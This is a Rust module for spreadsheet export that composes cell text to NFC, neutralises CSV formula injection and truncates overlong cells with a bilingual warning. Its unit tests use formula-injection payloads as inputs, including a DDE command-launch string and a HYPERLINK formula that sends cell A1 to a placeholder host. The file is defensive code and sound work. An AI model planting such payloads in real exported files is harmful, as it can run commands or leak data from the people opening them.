//! One spreadsheet cell: typed as text or number, its text composed to NFC, neutralised against
//! formula injection for CSV, and cut with a visible marker when it would not fit in a cell.

use csirt_model::limits::SPREADSHEET_CELL_MAX_UTF16;
use csirt_model::{bi, Lang, Text};
use std::borrow::Cow;
use unicode_normalization::{is_nfc_quick, IsNormalized, UnicodeNormalization};

/// A cell of an export. Only the figures we compute are numbers; every id, answer, name and
/// note is text, so a spreadsheet never turns `4.10` into 4.1 or `007` into 7.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Text(String),
    /// A figure and the number of decimals it is shown with in CSV.
    Number(f64, usize),
    Empty,
}

impl Cell {
    pub fn text(s: impl Into<String>) -> Cell {
        Cell::Text(s.into())
    }

    /// The CSV rendering of a number.
    pub fn number_text(value: f64, decimals: usize) -> String {
        format!("{value:.decimals$}")
    }
}

/// `s` in Unicode composed form (NFC): "e" + U+0301 becomes "é", か + U+3099 becomes が, so
/// every output shows and searches the text as the user typed it on any system.
pub fn nfc(s: &str) -> Cow<'_, str> {
    match is_nfc_quick(s.chars()) {
        IsNormalized::Yes => Cow::Borrowed(s),
        _ => Cow::Owned(s.nfc().collect()),
    }
}

/// Characters a spreadsheet may take as the start of a formula (OWASP's list, with the
/// full-width forms a Japanese input method produces).
const FORMULA_STARTS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// Whether a spreadsheet could read `s` as a formula: it starts with a tab, carriage return or
/// line feed, or its first character after any leading white space is a formula start.
pub fn looks_like_formula(s: &str) -> bool {
    if s.starts_with(['\t', '\r', '\n']) {
        return true;
    }
    s.trim_start()
        .chars()
        .next()
        .is_some_and(|c| FORMULA_STARTS.contains(&c))
}

/// `s` made safe for a CSV cell: a text a spreadsheet could run as a formula gets a single
/// quote before it, so it is shown as the text it is. Embedded quotes are doubled by the CSV
/// writer, which quotes every field that needs it (RFC 4180).
pub fn neutralise(s: &str) -> Cow<'_, str> {
    if looks_like_formula(s) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

/// The marker put at the end of a text that was cut to fit a cell.
pub fn cut_marker(lang: Lang) -> &'static str {
    match lang {
        Lang::Ja => "…[以下省略]",
        Lang::En => "…[truncated]",
    }
}

/// `s` cut so that it, with `marker` after it, takes at most `max_units` UTF-16 units (what
/// Excel counts), never splitting a character; `None` when `s` fits as it is.
pub fn cut_to_fit(s: &str, marker: &str, max_units: usize) -> Option<(String, usize)> {
    if s.encode_utf16().count() <= max_units {
        return None;
    }
    let budget = max_units.saturating_sub(marker.encode_utf16().count());
    let mut used = 0;
    let mut end = 0;
    let mut kept = 0;
    for (i, c) in s.char_indices() {
        if used + c.len_utf16() > budget {
            break;
        }
        used += c.len_utf16();
        end = i + c.len_utf8();
        kept += 1;
    }
    Some((format!("{}{marker}", &s[..end]), kept))
}

/// Where a cell is, for a warning: the sheet, the row's item and the column's heading.
pub struct Place<'a> {
    pub sheet: &'a str,
    pub item: &'a str,
    pub column: &'a str,
}

/// The text of a cell as it is written: NFC, neutralised when `csv`, cut to Excel's cell limit
/// with a marker (and a warning naming the item) when it is longer.
pub fn prepare(s: &str, csv: bool, lang: Lang, place: &Place, warnings: &mut Vec<Text>) -> String {
    let composed = nfc(s);
    let safe = if csv {
        neutralise(&composed)
    } else {
        Cow::Borrowed(composed.as_ref())
    };
    match cut_to_fit(&safe, cut_marker(lang), SPREADSHEET_CELL_MAX_UTF16) {
        None => safe.into_owned(),
        Some((cut, kept)) => {
            let total = safe.chars().count();
            let (sheet, item, column) = (place.sheet, place.item, place.column);
            let max = SPREADSHEET_CELL_MAX_UTF16;
            warnings.push(bi!(
                "シート「{sheet}」項目 {item} の「{column}」は {total} 文字あり、表計算ソフトのセル（{max} 単位）に収まらないため、最初の {kept} 文字だけを書き出しました",
                "sheet \"{sheet}\", item {item}, column \"{column}\": the text has {total} characters and does not fit in a spreadsheet cell ({max} units); only its first {kept} characters were exported"
            ));
            cut
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_formula_start_is_neutralised_and_plain_text_is_not() {
        for s in [
            "=1+1",
            "+1",
            "-1",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://x.invalid/?\"&A1,\"open\")",
            "\t=1",
            "\r=1",
            "\n=1",
            "\tplain",
            " =1+1",
            "\u{3000}=1+1",
            "\u{a0}+1",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(1)",
        ] {
            let n = neutralise(s);
            assert_eq!(n, format!("'{s}"), "{s:?}");
        }
        for s in [
            "",
            "plain",
            "1+1",
            "a=b",
            "007",
            "4.10",
            "NaN",
            "'quoted",
            "コメント",
        ] {
            assert_eq!(neutralise(s), s, "{s:?}");
        }
    }

    #[test]
    fn decomposed_text_is_composed() {
        for (nfd, nfc_form) in [
            (
                "Socie\u{301}te\u{301} A\u{30a}ngstro\u{308}m",
                "Société Ångström",
            ),
            ("\u{304b}\u{3099}", "が"),
            ("\u{30cf}\u{309a}", "パ"),
            ("\u{1112}\u{1161}\u{11ab}", "한"),
        ] {
            assert_eq!(nfc(nfd), nfc_form);
        }
        assert!(matches!(nfc("already composed"), Cow::Borrowed(_)));
    }

    #[test]
    fn a_cut_never_splits_a_character_and_fits_exactly() {
        let marker = cut_marker(Lang::En);
        assert_eq!(cut_to_fit("short", marker, 100), None);
        for s in ["x".repeat(40_000), "あ".repeat(40_000), "😀".repeat(20_000)] {
            let (cut, kept) = cut_to_fit(&s, marker, SPREADSHEET_CELL_MAX_UTF16).unwrap();
            let units = cut.encode_utf16().count();
            assert!(units <= SPREADSHEET_CELL_MAX_UTF16, "{units}");
            assert!(units >= SPREADSHEET_CELL_MAX_UTF16 - 1, "{units}");
            assert!(cut.ends_with(marker));
            assert_eq!(cut.chars().count(), kept + marker.chars().count());
        }
        // A text of exactly the limit fits; one unit more does not.
        let exact = "x".repeat(SPREADSHEET_CELL_MAX_UTF16);
        assert_eq!(cut_to_fit(&exact, marker, SPREADSHEET_CELL_MAX_UTF16), None);
        assert!(cut_to_fit(&(exact + "x"), marker, SPREADSHEET_CELL_MAX_UTF16).is_some());
    }

    proptest::proptest! {
        /// Whatever the text, the CSV cell is never a formula, and it is the text itself or the
        /// text after one quote: nothing is lost.
        #[test]
        fn no_text_comes_out_as_a_formula(s in "[ \t\r\n\u{3000}=+\\-@＝＋－＠a'\"|!]{0,8}\\PC{0,8}") {
            let n = neutralise(&s);
            proptest::prop_assert!(!looks_like_formula(&n), "{:?}", n);
            let quoted = format!("'{}", s);
            proptest::prop_assert!(n == s || *n == quoted);
        }

        /// A cut text fits, keeps a prefix of the text whole characters at a time, and ends
        /// with the marker.
        #[test]
        fn a_cut_fits_and_keeps_a_prefix(s in "\\PC{0,60}", max in 12usize..80) {
            let marker = cut_marker(Lang::En);
            match cut_to_fit(&s, marker, max) {
                None => proptest::prop_assert!(s.encode_utf16().count() <= max),
                Some((cut, kept)) => {
                    proptest::prop_assert!(cut.encode_utf16().count() <= max);
                    let body = cut.strip_suffix(marker).unwrap_or_default();
                    proptest::prop_assert!(s.starts_with(body));
                    proptest::prop_assert_eq!(body.chars().count(), kept);
                }
            }
        }
    }

    #[test]
    fn a_cut_cell_warns_naming_the_item_in_both_languages() {
        let mut warnings = Vec::new();
        let place = Place {
            sheet: "Answers",
            item: "4.10",
            column: "Comment",
        };
        let long = "=".repeat(SPREADSHEET_CELL_MAX_UTF16);
        let out = prepare(&long, true, Lang::Ja, &place, &mut warnings);
        assert!(
            out.starts_with("'="),
            "the neutralising quote survives the cut"
        );
        assert!(out.ends_with(cut_marker(Lang::Ja)));
        assert_eq!(warnings.len(), 1);
        assert!(warnings[0].ja.contains("項目 4.10"), "{:?}", warnings[0]);
        assert!(warnings[0].en.contains("item 4.10"), "{:?}", warnings[0]);
    }
}
